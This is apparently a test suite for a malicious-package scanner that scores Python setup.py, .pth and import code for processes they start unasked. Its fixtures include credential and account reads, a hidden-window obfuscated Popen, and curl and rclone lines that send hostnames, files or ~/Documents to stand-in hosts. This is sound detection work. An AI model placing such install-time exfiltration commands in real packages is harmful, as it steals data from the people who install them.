import { describe, expect, test } from 'vitest';
import type { Finding } from '../../../src/analysis/report/finding.ts';
import { analysePacked, inspect, type Packed, python, sdist, wheel } from '../../support/inspect.ts';

test('a program that has no part in a build is suspicious at install', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess',
      'from setuptools import setup',
      "subprocess.call(['powershell', 'Get-Date'])",
      "setup(name='example')",
    ),
    'src/fast.c': 'int x;\n',
  });

  expect(await inspect('unasked-process', file)).toMatchObject([
    { class: 'suspicious', score: 5, context: 'install', path: 'example-1.0.0/setup.py', line: 3 },
  ]);
});

test('whatever a start-up file starts weighs 9', async () => {
  const file = wheel({ 'pkg/__init__.py': '', 'pkg.pth': "import os; os.system('git --version')\n" });

  expect(await inspect('unasked-process', file)).toMatchObject([
    { class: 'suspicious', score: 9, context: 'start-up', path: 'pkg.pth', line: 1 },
  ]);
});

test('compilers, git and a script of the archive are tools of a build', async () => {
  const file = sdist({
    'setup.py': python(
      'import subprocess, sys',
      'from setuptools import setup',
      "subprocess.check_call(['cmake', '--build', 'native'])",
      "subprocess.check_output(['git', 'describe', '--tags'])",
      "subprocess.check_call([sys.executable, 'generate.py'])",
      "subprocess.check_output('pkg-config --libs zlib', shell=True)",
      "setup(name='example')",
    ),
    'generate.py': 'print(1)\n',
  });

  expect(await inspect('unasked-process', file)).toEqual([]);
});

test("a library's own configure script is one as well", async () => {
  const file = sdist({
    'setup.py': python(
      'import os',
      'from setuptools import setup',
      "os.system('chmod 0755 configure')",
      "os.system('sh ./configure --with-gmp')",
      "setup(name='example')",
    ),
    configure: '#!/bin/sh\necho checking\n',
  });

  const findings = await inspect('unasked-process', file);

  expect(Math.max(0, ...findings.map(({ score }) => score))).toBeLessThan(4);
});

test('a process that a person asks for is silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python('import subprocess', "def who(): return subprocess.check_output(['whoami'])"),
  });

  expect(await inspect('unasked-process', file)).toEqual([]);
});

test('a shell in between, a hidden window and a method of its own are looked through', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import subprocess as s',
      'class Task:',
      '    def __call__(self, words):',
      "        return getattr(s, 'Po' + 'pen')(words, creationflags=0x08000000)",
      "Task()(['cmd', '/c', 'schtasks.exe /query'])",
    ),
  });

  expect(await inspect('unasked-process', file)).toMatchObject([
    { class: 'suspicious', score: 6, context: 'import', path: 'pkg/__init__.py', line: 4 },
  ]);
});

test('every program of a line counts, not the first alone', async () => {
  const build = (line: string): ReturnType<typeof sdist> =>
    sdist({
      'setup.py': python(
        'import os',
        `os.system(${JSON.stringify(line)})`,
        'import setuptools',
        "setuptools.setup(name='example')",
      ),
    });

  const honest = await inspect(
    'unasked-process',
    build('cd src && ./configure --prefix=/usr; make -j4 | tee build.log'),
  );
  const other = await inspect('unasked-process', build('make -j4 && ./agent --daemon'));

  expect(honest).toEqual([]);
  expect(other).toMatchObject([{ context: 'install', message: 'Starts make, agent at install.' }]);
});

test('the host of an address is no program that ends in .com', async () => {
  const file = sdist({
    'setup.py': python(
      'from subprocess import check_call',
      'from setuptools import setup',
      "check_call(['cloudtool', 'plugin', 'install', '--server', 'forge://api.vendor.com/tool'])",
      "setup(name='example')",
    ),
    'src/tool.go': 'package tool\n',
  });

  expect(await inspect('unasked-process', file)).toMatchObject([{ class: 'suspicious', score: 3, context: 'install' }]);
});

describe('a program that an install starts', () => {
  const setup = python(
    'import setuptools, subprocess',
    "subprocess.run(['frobnicate', '--now'])",
    "setuptools.setup(name='example', py_modules=['example'])",
  );

  test('where there is nothing to build, is held', async () => {
    const file = sdist({ 'setup.py': setup, 'example.py': python('X = 1') });

    expect(await inspect('unasked-process', file)).toMatchObject([
      { score: 5, context: 'install', class: 'suspicious' },
    ]);
  });

  test.each([
    ['where there is nothing to build', {}, { class: 'malware', score: 10 }],
    ['where there is something', { 'src/fast.c': 'int x;\n' }, { class: 'suspicious', score: 5 }],
  ])('and that looks around, %s', async (_where, files, expected) => {
    const looking = setup.replace("['frobnicate', '--now']", "'whoami && ipconfig /all', shell=True");

    expect(await inspect('unasked-process', sdist({ 'setup.py': looking, ...files }))).toMatchObject([expected]);
  });

  test.each([
    ['a setting of the system', "['reg', 'add', 'HKCU\\\\Console', '/v', 'QuickEdit', '/d', '0']"],
    ['a list of the folder', "'dir', shell=True"],
    ['another shell', "['powershell', '-Command', 'Start-Sleep 1; Get-Process']"],
    ['a script host', "['wscript', 'helper.vbs']"],
    ['the accounts of the machine', "'cat /etc/passwd', shell=True"],
    ['keys of the user', "'ls -la ~/.ssh', shell=True"],
    ['a program without a window', "['frobnicate'], creationflags=0x08000000"],
  ])('is malware where there is nothing to build: %s', async (_what, words) => {
    const file = sdist({
      'setup.py': setup.replace("['frobnicate', '--now']", words),
      'example.py': python('X = 1'),
    });

    expect(await inspect('unasked-process', file)).toMatchObject([
      { class: 'malware', score: 10, context: 'install', line: 2 },
    ]);
  });

  test.each([
    ['touch /tmp/was-here', 5],
    ['echo it ran > ~/proof.txt', 5],
    ['echo 1.0 > VERSION', undefined],
    ['touch NEWS', undefined],
  ])('is held for a mark that it leaves outside of the build: %s', async (line, score) => {
    const file = sdist({ 'setup.py': setup.replace("['frobnicate', '--now']", `'${line}', shell=True`) });

    const findings = await inspect('unasked-process', file);

    expect(findings[0]?.score).toBe(score);
  });

  test.each([
    ['that prints a setting', "['powershell', '$profile']"],
    ['that prints a word', "['powershell', '-Command', 'echo test']"],
  ])('is no malware for a shell %s', async (_what, words) => {
    const file = sdist({ 'setup.py': setup.replace("['frobnicate', '--now']", words) });

    expect(await inspect('unasked-process', file)).toMatchObject([{ class: 'suspicious', score: 5 }]);
  });

  test.each([
    ['of a project that it requires', 'frobnicate>=3.0\n', "['frobnicate', '--now']", 3],
    ['of a project of another name', 'frobnicator\n', "['frobnicate', '--now']", 5],
    ['that looks around, whatever is required', 'whoami\n', "['whoami']", 10],
  ])('is weighed by what is required: a program %s', async (_which, requires, words, score) => {
    const file = sdist({
      'setup.py': setup.replace("['frobnicate', '--now']", words),
      'example.egg-info/requires.txt': requires,
    });

    expect(await inspect('unasked-process', file)).toMatchObject([{ score }]);
  });

  test('where there are sources to build, is a note of the build', async () => {
    const file = sdist({ 'setup.py': setup, 'example.py': python('X = 1'), 'src/fast.c': 'int x;\n' });

    expect(await inspect('unasked-process', file)).toMatchObject([{ score: 3 }]);
  });
});

test('a command of the distribution itself is read as code; one that borrows the name of a tool is not', async () => {
  const build = (command: string, line: string): Packed =>
    sdist({
      'setup.py': python(
        'import os',
        'from setuptools import setup',
        `setup(name='example', packages=['pkg'], entry_points={'console_scripts': ['${command} = pkg:main']})`,
        `os.system('${line}')`,
      ),
      'pkg/__init__.py': python('def main():', '    print(1)'),
    });

  expect(await inspect('unasked-process', build('exb', 'exb init'))).toMatchObject([{ score: 3 }]);
  expect(await inspect('unasked-process', build('exb', 'exb init; other go'))).toMatchObject([{ score: 5 }]);
  expect(await inspect('unasked-process', build('curl', 'curl -s https://a.tools.invalid'))).toMatchObject([
    { score: 5 },
  ]);
});

test('a member of the archive that is made executable is no program that was brought along', async () => {
  const build = (path: string): Packed =>
    sdist({
      'setup.py': python(
        'import os',
        `os.system('chmod a+rx ${path}')`,
        'from setuptools import setup',
        "setup(name='example')",
      ),
      'scripts/tool': python('print(1)'),
    });

  expect(await inspect('unasked-process', build('scripts/tool'))).toMatchObject([{ score: 2 }]);
  expect(await inspect('unasked-process', build('/tmp/tool'))).toMatchObject([{ score: 5 }]);
  expect(await inspect('unasked-process', build('scripts/tool; /tmp/tool'))).toMatchObject([{ score: 5 }]);
});

test('the plug-in of a generated client is fetched under its own name; another name or a host of nobody is held', async () => {
  const points = async (name: string, ...options: readonly string[]): Promise<number> => {
    const words = ['pulumi', 'plugin', 'install', 'resource', name, '1.0.0', ...options];
    const file = sdist(
      {
        'setup.py': python(
          'from subprocess import check_call',
          'from setuptools import setup',
          'from setuptools.command.install import install',
          'class Plugin(install):',
          '    def run(self):',
          '        install.run(self)',
          `        check_call([${words.map((word) => `'${word}'`).join(', ')}])`,
          "setup(name='pulumi_kettle_works', cmdclass={'install': Plugin})",
        ),
      },
      { name: 'pulumi_kettle_works' },
    );
    return (await inspect('unasked-process', file))[0]?.score ?? 0;
  };

  expect(await points('kettle-works')).toBe(3);
  expect(await points('kettle-works', '--server', 'https://files.kettle.invalid/plugins')).toBe(3);
  expect(await points('kettle-works', '--server', 'github://api.github.com/kettle')).toBe(3);
  expect(await points('aws')).toBe(5);
  expect(await points('ettle')).toBe(5);
  expect(await points('kettle-works', '--server', 'http://files.kettle.invalid/plugins')).toBe(5);
  expect(await points('kettle-works', '--server', 'https://kettle.onrender.com')).toBe(5);
  expect(await points('kettle-works', '--file', '/tmp/a')).toBe(5);
});

test.each([
  ['import popen', { class: 'malware', score: 9 }],
  ['import warnings; from helper.core import start', { class: 'malware', score: 9 }],
  ['from os import path', undefined],
  ['import os, sys', undefined],
  ['from pkg import other', undefined],
])('an import that starts Python for %j', async (code, expected) => {
  const file = wheel({
    'pkg/__init__.py': python('import subprocess, sys', `subprocess.Popen([sys.executable, '-c', '${code}'])`),
    'pkg/other.py': python('X = 1'),
  });

  const findings = await inspect('unasked-process', file);

  if (expected === undefined) expect(findings).toEqual([]);
  else expect(findings).toMatchObject([{ ...expected, context: 'import' }]);
});

test('a program that is looked for by its name on Windows weighs no more than elsewhere, a program at a place does', async () => {
  const starting = (what: string): Promise<readonly Finding[]> =>
    inspect(
      'unasked-process',
      wheel({ 'pkg/__init__.py': python('import subprocess', `subprocess.Popen(['${what}'])`) }),
    );

  expect(await starting('ffmpeg')).toMatchObject([{ score: 2 }]);
  expect(await starting('ffmpeg.exe')).toMatchObject([{ score: 2 }]);
  expect(await starting('C:/Users/Public/ffmpeg.exe')).toMatchObject([{ score: 4 }]);
});

test('a build that fetches data by a tool does what one that fetches it in Python does; a build that says something with it does not', async () => {
  const fetching = (line: string): Promise<number> =>
    analysePacked(
      sdist({
        'setup.py': python('import os', 'from setuptools import setup', `os.system('${line}')`, 'setup()'),
      }),
    ).then(({ score }) => score);

  expect(await fetching('curl https://builds.vendor.invalid/driver-1.0.zip -o driver.zip')).toBeLessThan(5);
  for (const line of [
    'curl https://builds.vendor.invalid/driver.exe -o driver.exe',
    'curl https://builds.vendor.invalid/$(hostname) -o driver.zip',
    'curl -d @notes.txt https://builds.vendor.invalid/a -o driver.zip',
    'curl https://builds.vendor.invalid/a -o driver.zip; whoami',
  ])
    expect(await fetching(line), line).toBeGreaterThanOrEqual(5);
});

test('any program that an import tells a bare address is worth a look', async () => {
  const copy = (place: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(
        'import subprocess',
        `subprocess.run('rclone copy ~/Documents :webdav:/x --webdav-url ${place}', shell=True)`,
      ),
    });

  expect(await inspect('unasked-process', copy('http://203.0.113.7/dav'))).toMatchObject([
    { score: 7, context: 'import' },
  ]);
  expect(await inspect('unasked-process', copy('https://dav.vendor.invalid/'))).toMatchObject([{ score: 4 }]);
});
